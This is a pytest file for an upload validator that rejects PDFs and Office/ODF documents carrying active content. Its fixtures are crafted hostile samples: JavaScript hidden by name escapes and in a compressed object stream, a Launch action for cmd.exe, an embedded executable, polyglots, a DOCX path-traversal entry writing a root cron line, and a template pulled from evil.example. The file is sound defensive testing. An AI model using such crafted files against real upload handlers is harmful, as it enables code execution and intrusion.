"""Issue 24, item 16 — documents that run something when DPC opens them are refused.

Reproduction (failed before the fix): PDFs with `/OpenAction` JavaScript, PDF/ZIP polyglots and DOCX
files with `../` entries were accepted from explorers and served to DPC unchanged. Now
`attachments.active` refuses, at the upload and before anything is stored, a PDF holding JavaScript (also
behind `#xx` name escapes and inside a compressed object stream), launch/submit actions, embedded files,
RichMedia or XFA; a file that is both PDF and ZIP; an Office/ODF document whose entries climb out of it,
hold macros, ActiveX or OLE objects, or fetch a template from elsewhere. Ordinary documents (an
`/OpenAction` that opens a page, web links) still go in. Nothing is sanitised: a refused file is not kept.
"""
from __future__ import annotations

import io
import zipfile
import zlib
from typing import Any

import pytest

pytest.register_assert_rewrite("tests.support.fuzz_report")
from tests.support.attachments import PAGE_OBJECTS, docx, odt, pdf, pdf_of  # noqa: E402
from tests.support.fuzz_report import FIGURES, UPLOADS  # noqa: E402
from valuation.attachments import records  # noqa: E402
from valuation.core.errors import InputError  # noqa: E402

pytest_plugins = ["tests.support.fuzz_report"]
CATALOG_WITH = "<</Type/Catalog/Pages 2 0 R{}>>"


def _catalog(extra: str) -> bytes:
    return CATALOG_WITH.format(extra).encode()


def _with_objstm(action: bytes) -> bytes:
    """A PDF 1.5 whose JavaScript action lives compressed in an object stream, found through a
    cross-reference stream: no `/JS` in the file's bytes."""
    head = b"4 0 "
    objstm = zlib.compress(head + action)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    bodies = {1: _catalog("/OpenAction 4 0 R"), 2: PAGE_OBJECTS[1], 3: PAGE_OBJECTS[2],
              5: b"<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>\nstream\n" % (len(head), len(objstm))
              + objstm + b"\nendstream"}
    for n in (1, 2, 3, 5):
        offsets[n] = len(out)
        out += b"%d 0 obj\n" % n + bodies[n] + b"\nendobj\n"
    xref_at = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    for n in range(1, 7):
        if n == 4:
            rows.append(b"\x02" + (5).to_bytes(4, "big") + (0).to_bytes(2, "big"))
        elif n == 6:
            rows.append(b"\x01" + xref_at.to_bytes(4, "big") + (0).to_bytes(2, "big"))
        else:
            rows.append(b"\x01" + offsets[n].to_bytes(4, "big") + (0).to_bytes(2, "big"))
    table = zlib.compress(b"".join(rows))
    out += (b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>\nstream\n"
            % len(table)) + table + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries:
            zf.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


def _docx_plus(entries: list[tuple[str, bytes]], *, first: list[tuple[str, bytes]] = ()) -> bytes:  # type: ignore[assignment]
    with zipfile.ZipFile(io.BytesIO(docx())) as z:
        base = [(n, z.read(n)) for n in z.namelist()]
    return _zip([*first, *base, *entries])


JS = b"<</S/JavaScript/JS(app.alert('DPC'))>>"
_TEMPLATE = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
             b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
_LINK = _TEMPLATE.replace(b"attachedTemplate", b"hyperlink").replace(b"t.dotm", b"pagina")

HOSTILE: list[tuple[str, str, bytes, str]] = [
    ("openaction-javascript", "relatorio.pdf", pdf_of([_catalog("/OpenAction 4 0 R"), *PAGE_OBJECTS[1:], JS]),
     "JavaScript"),
    ("names-javascript", "relatorio.pdf",
     pdf_of([_catalog("/Names<</JavaScript<</Names[(a) 4 0 R]>>>>"), *PAGE_OBJECTS[1:], JS]), "JavaScript"),
    ("escaped-name", "relatorio.pdf",
     pdf_of([_catalog("/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"), *PAGE_OBJECTS[1:]]), "JavaScript"),
    ("javascript-in-object-stream", "relatorio.pdf", _with_objstm(JS), "JavaScript"),
    ("page-additional-action", "relatorio.pdf",
     pdf_of([PAGE_OBJECTS[0], PAGE_OBJECTS[1], b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/AA<</O 4 0 R>>>>",
             b"<</S/Launch/F(cmd.exe)>>"]), "Launch"),
    ("embedded-file", "relatorio.pdf",
     pdf_of([_catalog("/Names<</EmbeddedFiles<</Names[(x.exe) 4 0 R]>>>>"), *PAGE_OBJECTS[1:],
             b"<</Type/Filespec/F(x.exe)/EF<</F 5 0 R>>>>", b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream"]),
     "embutido"),
    ("pdf-zip-polyglot", "relatorio.pdf", pdf() + _zip([("payload.exe", b"MZ" + b"\x00" * 64)]), "poliglota"),
    ("docx-pdf-polyglot", "relatorio.docx", _docx_plus([], first=[("a.txt", b"%PDF-1.4 1 0 obj<<>>endobj")]),
     "poliglota"),
    ("docx-climbing-entry", "relatorio.docx", _docx_plus([("../../../etc/cron.d/x", b"* * * * * root sh")]),
     "sai da pasta"),
    ("docx-absolute-entry", "relatorio.docx", _docx_plus([("/tmp/x", b"x")]), "sai da pasta"),
    ("docx-macros", "relatorio.docx", _docx_plus([("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]), "macros"),
    ("docx-external-template", "relatorio.docx", _docx_plus([("word/_rels/settings.xml.rels", _TEMPLATE)]),
     "attachedTemplate"),
    ("odt-basic-macro", "relatorio.odt",
     _zip([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<office:document-content/>"),
           ("Basic/Standard/Module1.xml", b"<script:module/>")]), "macros"),
]
HARMLESS: list[tuple[str, str, bytes]] = [
    ("plain-pdf", "relatorio.pdf", pdf()),
    ("openaction-goto-page", "relatorio.pdf", pdf_of([_catalog("/OpenAction[3 0 R/Fit]"), *PAGE_OBJECTS[1:]])),
    ("uri-link", "relatorio.pdf",
     pdf_of([PAGE_OBJECTS[0], PAGE_OBJECTS[1], b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Annots[4 0 R]>>",
             b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(https://www.marinha.mil.br)>>>>"])),
    ("docx", "relatorio.docx", docx()),
    ("docx-hyperlink", "relatorio.docx", _docx_plus([("word/_rels/document.xml.rels", _LINK)])),
    ("odt", "relatorio.odt", odt()),
]


@pytest.mark.parametrize("case, name, data, why", HOSTILE, ids=[c[0] for c in HOSTILE])
def test_active_content_is_refused_at_the_upload(small_world: Any, case: str, name: str, data: bytes,
                                                  why: str) -> None:
    s, explorer = small_world.store, small_world.principal("explorer_a")
    event = s.scalar("SELECT count(*) FROM attachments")
    with pytest.raises(InputError) as refused:
        records.attach(s, explorer, "contract", small_world.ids["A-1"], "cost_sheet", [records.Upload(name, data)])
    assert why in str(refused.value) and name in str(refused.value), str(refused.value)
    assert s.scalar("SELECT count(*) FROM attachments") == event                 # nothing stored
    UPLOADS.count(f"active_content:{case}", outcome="refused")


@pytest.mark.parametrize("case, name, data", HARMLESS, ids=[c[0] for c in HARMLESS])
def test_ordinary_documents_still_go_in(small_world: Any, case: str, name: str, data: bytes) -> None:
    s, explorer = small_world.store, small_world.principal("explorer_a")
    ids = records.attach(s, explorer, "contract", small_world.ids["A-1"], "cost_sheet", [records.Upload(name, data)])
    assert records.open_attachment(s, small_world.principal("dpc"), ids[0], "file").data == data   # served as sent
    UPLOADS.count(f"active_content:{case}", outcome="accepted")


def test_the_campaign_figure() -> None:
    FIGURES.record("active content: hostile documents refused / ordinary accepted", f"{len(HOSTILE)} / {len(HARMLESS)}")
